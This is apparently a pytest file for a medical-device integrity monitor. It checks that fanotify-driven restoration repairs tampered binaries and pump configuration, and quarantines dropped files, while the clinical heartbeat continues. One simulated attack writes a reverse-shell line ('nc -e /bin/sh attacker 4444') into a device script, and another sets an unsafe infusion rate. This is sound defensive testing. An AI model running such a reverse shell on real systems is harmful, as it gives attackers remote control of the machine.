"""Attack while the essential function runs: fanotify notifications on a dedicated tmpfs drive the
monitor, which restores the files, and the clinical heartbeat never stops (RL-1, RL-2).

Only the ``device_mount`` tmpfs is marked, with notification-class events (FAN_CLOSE_WRITE,
FAN_MODIFY); no permission events are used here.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from medsec.crypto.keys import SigningKey
from medsec.protect.clinical import max_gap_seconds, read_beats
from medsec.protect.events import ProtectionEvent
from medsec.protect.integrity import FanotifyChanges, IntegrityMonitor, KnownGood, build_baseline, load_baseline

CONFIG = b'{"rate_ml_per_h": 5}\n'
REPORT = b"#!/bin/sh\necho daily report\n"
# A stall of more than a few 100 ms beats would mean the essential function was disturbed;
# the bound leaves room for a loaded, shared test machine.
MAX_GAP_SECONDS = 1.0


@dataclass
class Running:
    root: Path
    events: list[ProtectionEvent]
    monitor: IntegrityMonitor
    heartbeat: Path


def _write(path: Path, data: bytes, mode: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)


def _wait_for(condition: Callable[[], bool], timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.02)
    return condition()


@pytest.fixture
def running(device_mount: Path, tmp_path: Path) -> Iterator[Running]:
    """A device root on tmpfs with the monitor (fanotify-driven) and the clinical process running."""
    root = device_mount
    _write(root / "slots/a/bin/report", REPORT, 0o755)
    os.symlink("a", root / "slots/current")
    _write(root / "opt/device/bin/report", REPORT, 0o755)
    _write(root / "etc/device/pump.json", CONFIG, 0o644)
    _write(root / "etc/medsec/agent.json", b'{"serial": "IC300-0001"}', 0o600)
    (root / "run").mkdir()
    store = tmp_path / "known-good"  # a read-only store off the device mount
    _write(store / "pump.json", CONFIG, 0o444)
    _write(store / "agent.json", b'{"serial": "IC300-0001"}', 0o444)
    key = SigningKey.generate()
    baseline = build_baseline(
        root, [("opt/device/bin", "binary"), ("etc/device", "config"), ("etc/medsec", "config")], label="IC300-0001"
    )
    events: list[ProtectionEvent] = []
    monitor = IntegrityMonitor(
        root,
        load_baseline(baseline.seal([key]), [key.verify_key]),
        KnownGood([root / "slots/current", store]),
        quarantine_dir=root / "var/lib/medsec/quarantine",
        on_event=events.append,
        interval=3600,  # no scheduled check during the test: notifications alone must do it
    )
    heartbeat = root / "run/heartbeat"
    clinical = subprocess.Popen(
        [sys.executable, "-m", "medsec.protect.clinical", "--config", str(root / "etc/device/pump.json"),
         "--heartbeat", str(heartbeat)],
    )  # fmt: skip
    changes = FanotifyChanges(root)
    stop = threading.Event()
    thread = threading.Thread(target=monitor.run, args=(stop, changes), kwargs={"poll": 0.2}, daemon=True)
    thread.start()
    try:
        assert _wait_for(lambda: heartbeat.exists() and len(read_beats(heartbeat)) >= 5, 10), "no heartbeat"
        yield Running(root, events, monitor, heartbeat)
    finally:
        stop.set()
        thread.join(10)
        changes.close()
        clinical.terminate()
        clinical.wait(10)


def _attack(path: Path, data: bytes, *, in_place: bool = False, mode: int | None = None) -> None:
    """Write as another process would: the monitor ignores notifications its own writes cause."""
    script = (
        "import os, sys\n"
        "flags = os.O_WRONLY | (0 if sys.argv[3] == 'in-place' else os.O_CREAT | os.O_TRUNC)\n"
        "fd = os.open(sys.argv[1], flags, 0o644)\n"
        "os.write(fd, bytes.fromhex(sys.argv[2]))\n"
        "if sys.argv[4]: os.fchmod(fd, int(sys.argv[4], 8))\n"
        "os.close(fd)\n"
    )
    args = [str(path), data.hex(), "in-place" if in_place else "replace", f"{mode:o}" if mode is not None else ""]
    subprocess.run([sys.executable, "-c", script, *args], check=True, timeout=30)


def _restored(events: list[ProtectionEvent], path: str) -> bool:
    return any(e.action == "restored" and e.object is not None and e.object.path == path for e in events)


@pytest.mark.req("RL-1")
@pytest.mark.req("RL-2")
def test_attack_on_binary_and_config_is_repaired_while_the_heartbeat_continues(running: Running) -> None:
    root = running.root
    before = len(read_beats(running.heartbeat))
    attacked_at = time.monotonic()
    _attack(root / "opt/device/bin/report", b"#!/bin/sh\nnc -e /bin/sh attacker 4444\n")
    _attack(root / "etc/device/pump.json", b'{"rate_ml_per_h": 999}\n')
    assert _wait_for(
        lambda: (
            _restored(running.events, "/opt/device/bin/report") and _restored(running.events, "/etc/device/pump.json")
        ),
        10,
    ), [e.to_json() for e in running.events]
    repaired_in = time.monotonic() - attacked_at
    assert (root / "opt/device/bin/report").read_bytes() == REPORT
    assert (root / "etc/device/pump.json").read_bytes() == CONFIG
    assert {(e.action, e.rule) for e in running.events} >= {
        ("detected", "baseline_mismatch"),
        ("restored", "baseline_mismatch"),
    }
    assert running.monitor.stats.full_checks == 1  # only the start check: notifications did the rest
    time.sleep(1.0)
    beats = read_beats(running.heartbeat)
    assert len(beats) >= before + 8
    assert [b.seq for b in beats] == list(range(1, len(beats) + 1))
    gap = max_gap_seconds(beats)
    assert gap < MAX_GAP_SECONDS, f"heartbeat stalled for {gap:.3f} s"
    assert beats[-1].rate == 5  # the essential function runs on the restored configuration
    print(f"repaired in {repaired_in * 1000:.0f} ms; longest heartbeat gap {gap * 1000:.0f} ms")


@pytest.mark.req("RL-1")
def test_agent_settings_rewritten_in_place_are_restored(running: Running) -> None:
    settings = running.root / "etc/medsec/agent.json"
    _attack(settings, b'{"serial": "EVIL-00001"}', in_place=True)  # FAN_MODIFY, FAN_CLOSE_WRITE, same inode
    assert _wait_for(lambda: _restored(running.events, "/etc/medsec/agent.json"), 10)
    assert settings.read_bytes() == b'{"serial": "IC300-0001"}'


@pytest.mark.req("RL-2")
def test_binary_dropped_on_the_device_mount_is_quarantined(running: Running) -> None:
    dropped = running.root / "opt/device/bin/miner"
    _attack(dropped, b"\x7fELF miner", mode=0o755)
    assert _wait_for(lambda: any(e.action == "quarantined" for e in running.events), 10)
    assert not dropped.exists()
    (moved,) = (running.root / "var/lib/medsec/quarantine").iterdir()
    # The attacker still held the file open and chmodded it 0755 after it was moved; its close is
    # reported too, and the quarantined file is sealed again.
    assert _wait_for(lambda: moved.stat().st_mode & 0o7777 == 0, 5), oct(moved.stat().st_mode)


@pytest.mark.req("RL-1")
def test_scheduled_check_finds_a_deleted_file(device_mount: Path) -> None:
    root = device_mount
    _write(root / "slots/a/bin/report", REPORT, 0o755)
    _write(root / "opt/device/bin/report", REPORT, 0o755)
    baseline = build_baseline(root, [("opt/device/bin", "binary")], label="x")
    events: list[ProtectionEvent] = []
    monitor = IntegrityMonitor(
        root, baseline, KnownGood([root / "slots/a"]), quarantine_dir=root / "q", on_event=events.append, interval=0.2
    )
    stop = threading.Event()
    thread = threading.Thread(target=monitor.run, args=(stop,), kwargs={"poll": 0.05}, daemon=True)
    thread.start()
    try:
        _wait_for(lambda: monitor.stats.full_checks >= 1, 5)
        (root / "opt/device/bin/report").unlink()  # no FAN_CLOSE_WRITE: only the schedule sees this
        assert _wait_for(lambda: _restored(events, "/opt/device/bin/report"), 5)
    finally:
        stop.set()
        thread.join(5)
    assert (root / "opt/device/bin/report").read_bytes() == REPORT
    assert monitor.stats.full_checks >= 2
